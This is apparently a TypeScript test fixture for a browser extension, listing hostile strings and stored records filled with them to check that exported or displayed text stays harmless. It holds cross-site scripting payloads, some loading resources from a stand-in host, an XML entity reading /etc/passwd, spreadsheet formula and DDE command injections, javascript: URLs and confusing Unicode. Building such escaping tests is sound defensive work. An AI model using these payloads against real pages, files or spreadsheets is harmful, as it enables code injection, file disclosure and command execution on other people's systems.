import { MISSION_DOMAINS } from '../../evidence/mission-domain.ts';
import { offlineAddress } from '../../evidence/page/page-address.ts';
import type { Piece } from '../../evidence/piece/piece.ts';
import { fullPiece, offlinePiece, quote } from './full-pieces.ts';
import type { PieceFields } from './pieces.ts';

/** A host that nobody has; only hostile text can cause a request to it. */
export const HOSTILE_HOST = 'hostile.example';

/** Texts that have a meaning for a browser, a spreadsheet, XML or a reader's eye, and that no page should send. */
export const HOSTILE_TEXTS: readonly string[] = [
  '</script><script>globalThis.ran = true; alert(1)</script>',
  `"><img src="https://${HOSTILE_HOST}/a.png" onerror="globalThis.ran = true">`,
  `'><svg onload='globalThis.ran = true'><use href="https://${HOSTILE_HOST}/b.svg#x"/></svg>`,
  `</style><style>@import "https://${HOSTILE_HOST}/c.css"; body { background: url(//${HOSTILE_HOST}/d) }</style>`,
  `<meta http-equiv="refresh" content="0; url=https://${HOSTILE_HOST}/e"><base href="https://${HOSTILE_HOST}/">`,
  `--><iframe src="https://${HOSTILE_HOST}/f"></iframe><link rel="prefetch" href="https://${HOSTILE_HOST}/g">`,
  ']]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;<![CDATA[',
  `=HYPERLINK("https://${HOSTILE_HOST}/"&A1,"click")`,
  "\t=cmd|' /C calc'!A0",
  ' ＝1+1',
  '@SUM(1+1)*cmd',
  '-2+3',
  '+"x\r\n=1+1',
  '\u0000\u0001\u0008\u000B\u000C\u001B[31m\u007F\u0085\u009F',
  '\uD800 lone \uDC00 \uDBFF',
  '\uFFFE\uFFFF\uFDD0\u{1FFFE}',
  '\u202Egnp.exe\u202C \u2066\u2067\u2068\u2069 \u200E\u200F\u061C',
  '\uFEFF\uFFF9a\uFFFAb\uFFFB\u2028\u2029\u200B',
  '_x0000__x000D__x003C_',
  '[x](javascript:globalThis.ran=true) ![y](https://hostile.example/h) <javascript:1> `code` # * 1. |',
  '{{passage}} $t(common.undo) $1 $& %s',
];

/**
 * A list with each hostile text in every field, as no version of the extension would store it: text that is cleaned
 * on the way in must do no harm on the way out, either.
 */
export const HOSTILE_LIST: readonly Piece[] = HOSTILE_TEXTS.flatMap((text, index) => {
  const domain = MISSION_DOMAINS[index % MISSION_DOMAINS.length] ?? 'collaboration';
  const said: PieceFields = {
    domain,
    title: text,
    note: `${text}\n\n${text}`,
    quotes: [quote(text, { prefix: text, suffix: text })],
    taggedBy: text,
    labels: [text, `x ${text}`],
    place: text,
    contributions: [{ origin: 'another', note: text, by: text, taggedAt: '2026-03-02T09:00:00.000Z' }],
  };
  return [
    fullPiece({ ...said, url: `https://school.example/${index}?${encodeURIComponent(text.toWellFormed())}` }),
    // An address that no check accepted.
    fullPiece({ ...said, url: `https://school.example/${text}` }),
    fullPiece({ ...said, url: `javascript:globalThis.ran=true//${index}` }),
    offlinePiece({ ...said, url: offlineAddress(`00000000-0000-4000-8000-${`${index}`.padStart(12, '0')}`) }),
  ];
});
